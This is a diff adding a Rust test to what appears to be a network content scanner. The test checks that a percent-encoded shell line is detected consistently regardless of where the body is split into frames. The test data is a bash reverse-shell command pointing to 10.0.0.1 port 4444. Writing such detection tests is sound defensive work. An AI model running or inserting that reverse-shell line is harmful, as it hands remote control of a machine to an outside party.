@@ -447,3 +447,32 @@ fn findings_do_not_depend_on_frame_boundaries() {
         assert_eq!(key(&found), whole, "split at {split}");
     }
 }
+
+/// Found by fuzzing: a percent-encoded shell line cut at a frame end matched
+/// partially in the decoded view.
+#[test]
+fn decoded_views_do_not_depend_on_frame_boundaries() {
+    let d = Arc::new(Detector::builtin(DetectorOptions::default()).unwrap());
+    let ctx = ScanContext::new(Direction::Inbound, "http", "c", "docs.example:443");
+    let line = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
+    let encoded: String = line.bytes().map(|b| format!("%{b:02X}")).collect();
+    let body = format!("g\nnt\n{encoded}\n");
+    let body = body.as_bytes();
+    let key = |fs: &[Finding]| {
+        let mut k: Vec<(String, String)> = fs
+            .iter()
+            .map(|f| (f.pattern.clone(), f.fingerprint.clone()))
+            .collect();
+        k.sort();
+        k
+    };
+    let whole = key(&d.scan_text(&ctx, "body", body));
+    assert_eq!(whole.len(), 1, "{whole:?}");
+    for split in 1..body.len() {
+        let mut insp = d.body_inspector(ctx.clone(), "body", None);
+        let mut found = insp.feed(&body[..split]);
+        found.extend(insp.feed(&body[split..]));
+        found.extend(insp.finish());
+        assert_eq!(key(&found), whole, "split at {split}");
+    }
+}
